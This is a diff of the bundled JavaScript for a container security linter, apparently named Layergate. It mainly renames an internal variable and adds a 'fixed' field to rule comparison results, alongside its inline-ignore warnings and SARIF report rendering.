-    passed: rules.map(({ meta: meta42 }) => meta42.id).filter((id) => policy.rules[id]?.enabled === true && !found.has(id))
+    fixed: comparison?.fixed((id) => policy.rules[id]?.enabled === true && rules.some(({ meta: meta43 }) => meta43.id === id)) ?? [],
+    passed: rules.map(({ meta: meta43 }) => meta43.id).filter((id) => policy.rules[id]?.enabled === true && !found.has(id))
   };
 }
 function leadOf(judged2) {
@@ -86577,16 +86737,16 @@ function inlineWarnings(inline, rules, policy, used, now) {
           message: `${where} expired on ${ignore.expires}: it no longer hides anything (\u201C${ignore.reason}\u201D).`
         }
       ];
-    const isRun = rules.some(({ meta: meta42 }) => meta42.id === ignore.rule) && policy.rules[ignore.rule]?.enabled === true;
+    const isRun = rules.some(({ meta: meta43 }) => meta43.id === ignore.rule) && policy.rules[ignore.rule]?.enabled === true;
     return ignore.isForeign || !isRun || usedComments.has(keyOf5(ignore)) ? [] : [{ code: "unused-ignore", message: `${where} matched nothing: remove it (\u201C${ignore.reason}\u201D).` }];
   });
 }
 
 // src/rules/check.ts
 function* check(rules, evidence, settings2) {
-  for (const { meta: meta42, check: run2 } of rules) {
-    const setting2 = settings2[meta42.id];
-    if (setting2 === void 0 || !setting2.enabled && meta42.kind === "rule") continue;
+  for (const { meta: meta43, check: run2 } of rules) {
+    const setting2 = settings2[meta43.id];
+    if (setting2 === void 0 || !setting2.enabled && meta43.kind === "rule") continue;
     yield* run2(evidence, setting2.options);
   }
 }
@@ -88121,7 +88281,7 @@ function toResult(finding, files) {
   const start = finding.dockerfile === null ? "line not known: " : finding.dockerfile.changed === true ? `line ${finding.dockerfile.startLine} of the Dockerfile as it was built: ` : "";
   return {
     ruleId: finding.ruleId,
-    ruleIndex: RULES.findIndex(({ meta: meta42 }) => meta42.id === finding.ruleId),
+    ruleIndex: RULES.findIndex(({ meta: meta43 }) => meta43.id === finding.ruleId),
     level: LEVELS[finding.severity],
     message: {
       text: `${start}${visible(finding.message)}${links.length === 0 ? "" : ` See: ${links.join(", ")}.`} ${visible(finding.remedy)}`
@@ -88161,25 +88321,25 @@ function renderRun({ id, results, warnings, properties }) {
             name: "Layergate",
             semanticVersion: VERSION7,
             informationUri: HOME2,
-            rules: RULES.map(({ meta: meta42 }) => ({
-              id: meta42.id,
-              name: meta42.id.replace(/(?:^|-)(\w)/g, (_, letter) => letter.toUpperCase()),
-              shortDescription: { text: meta42.title },
-              fullDescription: { text: meta42.description },
+            rules: RULES.map(({ meta: meta43 }) => ({
+              id: meta43.id,
+              name: meta43.id.replace(/(?:^|-)(\w)/g, (_, letter) => letter.toUpperCase()),
+              shortDescription: { text: meta43.title },
+              fullDescription: { text: meta43.description },
               help: {
-                text: `${meta42.description} ${meta42.remedy}`,
-                markdown: `${meta42.description}
+                text: `${meta43.description} ${meta43.remedy}`,
+                markdown: `${meta43.description}
 
-**What to do:** ${meta42.remedy}
+**What to do:** ${meta43.remedy}
 
-${meta42.references.map(({ name: name2, url: url2 }) => `- [${name2}](${url2})`).join("\n")}`
+${meta43.references.map(({ name: name2, url: url2 }) => `- [${name2}](${url2})`).join("\n")}`
               },
-              helpUri: `${HOME2}/blob/main/docs/rules/${meta42.id}.md`,
-              defaultConfiguration: { level: LEVELS[meta42.severity] },
+              helpUri: `${HOME2}/blob/main/docs/rules/${meta43.id}.md`,
+              defaultConfiguration: { level: LEVELS[meta43.severity] },
               properties: {
-                "security-severity": SECURITY_SEVERITY[meta42.severity],
-                precision: meta42.confidence === "high" ? "high" : "medium",
-                tags: ["security", "container", meta42.kind === "secret" ? "secret" : "hardening"]
+                "security-severity": SECURITY_SEVERITY[meta43.severity],
+                precision: meta43.confidence === "high" ? "high" : "medium",
+                tags: ["security", "container", meta43.kind === "secret" ? "secret" : "hardening"]
               }
             }))
           }
